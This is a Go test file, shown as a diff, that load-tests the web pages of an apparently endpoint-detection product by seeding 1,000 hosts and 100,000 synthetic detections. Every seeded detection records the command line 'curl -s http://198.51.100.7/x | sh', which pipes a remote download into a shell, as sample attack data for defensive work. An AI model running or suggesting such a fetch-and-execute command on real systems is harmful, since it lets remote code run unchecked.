@@ -1,0 +1,158 @@
+package web_test
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"math/rand"
+	"net/http"
+	"os"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/quarry-sec/quarry/fleet/store"
+	"github.com/quarry-sec/quarry/fleet/web"
+	"github.com/quarry-sec/quarry/tables/ioa"
+)
+
+// Scale of the fleet TestPagesAtScale renders.
+const (
+	scaleHosts      = 1000
+	scaleDetections = 100000
+	// scaleBudget is the most a page may take on this 2-core machine
+	// (shared with benchmarks); pages typically take a fraction of it.
+	scaleBudget = 3 * time.Second
+)
+
+// seedScale enrolls scaleHosts hosts and stores scaleDetections
+// detections over the last week (techniques of the builtin rules, mixed
+// severities), and a process context of 30 processes for each host.
+func seedScale(t testing.TB, f *fleet) {
+	t.Helper()
+	ctx := context.Background()
+	_, rules := knowledge(t)
+	var techs []string
+	for _, r := range rules {
+		techs = append(techs, ioa.TechniqueIDs(r)...)
+	}
+	kb, _ := knowledge(t)
+	sevs := []string{"medium", "medium", "high", "high", "high", "critical", "low"}
+	rng := rand.New(rand.NewSource(7))
+	now := time.Now()
+	hostIDs := make([]string, scaleHosts)
+	for i := range hostIDs {
+		h := &store.Host{NodeKey: fmt.Sprintf("nk-%d", i), HostIdentifier: fmt.Sprintf("host-%04d", i),
+			Hostname: fmt.Sprintf("ws%04d.corp.example", i), Platform: "ubuntu", Family: "linux", OSVersion: "Ubuntu 24.04.1 LTS",
+			OsqueryVersion: "5.14.1", QuarryVersion: "0.9.0", EnrolledAt: now.Add(-30 * 24 * time.Hour),
+			LastSeen: now.Add(-time.Duration(rng.Intn(300)) * time.Second)}
+		if err := f.st.EnrollHost(ctx, h); err != nil {
+			t.Fatal(err)
+		}
+		hostIDs[i] = h.ID
+	}
+	const batch = 5000
+	for n := 0; n < scaleDetections; n += batch {
+		var logs []store.HostLogs
+		for i := n; i < n+batch; i++ {
+			tech := techs[rng.Intn(len(techs))]
+			name, tactic := "", ""
+			if te, _, ok := kb.Resolve(tech); ok {
+				name, tactic = te.Name, strings.Join(te.Tactics, ",")
+			}
+			pid := int64(1000 + i%30)
+			d := store.Detection{HitID: fmt.Sprintf("hit-%d", i), Time: now.Add(-time.Duration(rng.Int63n(int64(7 * 24 * time.Hour)))),
+				Query: "quarry_ioa_hits", RuleID: "rule-" + tech, RuleTitle: "Rule for " + tech, RuleAuthor: "Quarry team",
+				RuleSource: "builtin", TechniqueID: tech, TechniqueName: name, Tactic: tactic, Severity: sevs[rng.Intn(len(sevs))],
+				Confidence: "medium", Description: "A scale-test detection.", Recommendations: "Look at the process tree.",
+				EID: pid, PID: pid, Path: "/usr/bin/curl", Cmdline: "curl -s http://198.51.100.7/x | sh", ParentPath: "/bin/bash",
+				Username: "www-data", Source: "ebpf"}
+			logs = append(logs, store.HostLogs{HostID: hostIDs[i%scaleHosts], Batch: &store.LogBatch{Detections: []store.Detection{d}}})
+		}
+		if err := f.st.AppendHostLogs(ctx, logs); err != nil {
+			t.Fatal(err)
+		}
+	}
+	// A process context per host: a chain of 30 processes.
+	var logs []store.HostLogs
+	for i, id := range hostIDs {
+		var rs []store.Result
+		for p := int64(1000); p < 1030; p++ {
+			cols, _ := json.Marshal(map[string]string{"eid": fmt.Sprint(p), "pid": fmt.Sprint(p), "parent": fmt.Sprint(p - 1),
+				"time": fmt.Sprint(now.Add(-2*time.Hour).Unix() + p), "path": "/bin/bash", "cmdline": "bash -c step",
+				"username": "www-data", "syscall": "execve"})
+			rs = append(rs, store.Result{Name: "pack_" + web.ProcessPackName + "_" + web.ProcessQuery, Query: web.ProcessQuery,
+				Action: "added", Time: now.Add(-time.Hour), Counter: int64(i), Columns: cols})
+		}
+		logs = append(logs, store.HostLogs{HostID: id, Batch: &store.LogBatch{Results: rs}})
+	}
+	if err := f.st.AppendHostLogs(ctx, logs); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// TestPagesAtScale renders every page over 1,000 hosts and 100,000
+// detections in SQLite and reports how long each took.
+func TestPagesAtScale(t *testing.T) {
+	if testing.Short() {
+		t.Skip("scale test skipped in -short mode")
+	}
+	f := newFleet(t)
+	start := time.Now()
+	seedScale(t, f)
+	t.Logf("seeded %d hosts and %d detections in %s", scaleHosts, scaleDetections, time.Since(start).Round(time.Millisecond))
+	c := client(t)
+	signIn(t, c, f.srv.URL, f.token)
+	ds, total, err := f.st.Detections(context.Background(), store.DetectionFilter{Limit: 1})
+	if err != nil || total != scaleDetections {
+		t.Fatalf("detections: %d, %v", total, err)
+	}
+	d := ds[0]
+	pages := []string{
+		"/",
+		"/matrix",
+		"/matrix?layer=detections&since=7d",
+		"/matrix?layer=detections&since=24h&hosts=host-0001,host-0002",
+		"/matrix/layer.json?layer=detections&since=30d",
+		"/techniques/" + d.TechniqueID,
+		"/detections",
+		"/detections?page=1000",
+		"/detections?severity=critical&since=24h",
+		"/detections?technique=" + strings.Split(d.TechniqueID, ".")[0] + "&host=host-0042",
+		"/detections?tactic=execution&since=7d&page=3",
+		fmt.Sprintf("/detections/%d", d.ID),
+		"/hosts",
+		"/hosts?page=20",
+		"/hosts?q=ws0999",
+		"/hosts/" + d.HostID,
+		"/hunt",
+	}
+	var report []string
+	for _, p := range pages {
+		// The second render is the one that counts (the first warms
+		// SQLite's page cache, as a running server's would be).
+		var took time.Duration
+		for i := 0; i < 2; i++ {
+			start := time.Now()
+			resp, body := get(t, c, f.srv.URL+p)
+			took = time.Since(start)
+			if resp.StatusCode != http.StatusOK {
+				t.Fatalf("%s: %s", p, resp.Status)
+			}
+			if strings.HasPrefix(p, "/detections?page=1000") && !strings.Contains(body, "49951–50000") {
+				t.Errorf("%s: not the 1,000th page", p)
+			}
+			if strings.HasPrefix(p, "/detections/") && (!strings.Contains(body, `class="node hit`) || strings.Count(body, `<div class="node`) < 20) {
+				t.Errorf("%s: no process tree of the host's 30 processes", p)
+			}
+		}
+		report = append(report, fmt.Sprintf("%-70s %8.1f ms", p, float64(took.Microseconds())/1000))
+		if took > scaleBudget {
+			t.Errorf("%s took %s at %d hosts / %d detections (budget %s)", p, took, scaleHosts, scaleDetections, scaleBudget)
+		}
+	}
+	t.Logf("render times at %d hosts, %d detections (SQLite):\n%s", scaleHosts, scaleDetections, strings.Join(report, "\n"))
+	if out := os.Getenv("QUARRY_UI_ARTIFACTS"); out != "" {
+		_ = os.WriteFile(out+"/render-times.txt", []byte(strings.Join(report, "\n")+"\n"), 0o644)
+	}
+}
